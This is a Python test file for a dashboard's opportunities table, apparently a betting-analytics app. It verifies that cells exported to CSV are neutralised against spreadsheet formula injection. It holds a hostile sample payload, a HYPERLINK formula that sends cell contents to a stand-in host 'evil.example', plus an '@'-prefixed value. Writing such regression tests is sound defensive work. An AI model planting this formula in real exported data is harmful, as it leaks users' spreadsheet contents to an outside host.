"""The opportunities table (which users export as CSV) never carries a spreadsheet formula."""

from __future__ import annotations

import json
from datetime import timedelta

from app.db import utcnow
from app.models import OpportunityRow

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"refresh")'
OUT = "..opp-table.data...opp-ev-hist.figure...opp-latency-hist.figure.."


def test_exported_cells_are_neutralised(login_as, db) -> None:
    """Before the fix the row came back as `=HYPERLINK(...)` and the CSV export ran it."""
    now = utcnow()
    with db.session() as s:
        s.add(
            OpportunityRow(
                strategy="steam", game_key="g1", market="h2h", side="home", book="@evil",
                price=-110, point=None, fair_prob=0.55, ev=0.04, kelly_fraction=0.01,
                data_available_at=now - timedelta(seconds=5), detected_at=now, latency_ms=5000.0,
                explanation=HOSTILE, fingerprint="f" * 64,
            )
        )  # fmt: skip
    viewer = login_as("viewer")
    r = viewer.callback(
        OUT,
        [
            {"id": "opp-strategy", "property": "value", "value": None},
            {"id": "opp-min-ev", "property": "value", "value": None},
            {"id": "opp-book", "property": "value", "value": None},
            {"id": "opp-refresh", "property": "n_intervals", "value": 1},
        ],
    )
    assert r.status_code == 200, r.data
    (row,) = json.loads(r.data)["response"]["opp-table"]["data"]
    cells = [v for v in row.values() if isinstance(v, str)]
    assert "'" + HOSTILE in cells and "'@evil" in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(
        c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in cells
    )
